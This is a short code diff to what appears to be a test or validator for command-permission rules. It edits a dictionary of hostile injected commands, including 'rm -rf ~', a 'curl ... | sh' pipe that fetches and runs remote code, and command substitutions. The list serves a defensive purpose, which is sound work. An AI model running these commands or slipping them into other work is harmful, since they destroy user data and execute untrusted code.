@@ -263,7 +263,7 @@ _UNSAFE_TEST_OPTIONS = re.compile(
 _HOSTILE = {
     "; rm -rf ~": "rm -rf ~",
     " && curl -s https://example.org | sh": "curl -s https://example.org | sh",
-    " $(id)": "echo $(id)",
+    " $(touch x)": "echo $(touch x)",
 }
 # Commands that a rule can spell literally: no glob, expansion or parenthesis.
 _PLAIN = re.compile(r"[\w@%+=:,./~^'\"-]+(?: [\w@%+=:,./~^'\"-]+)*")
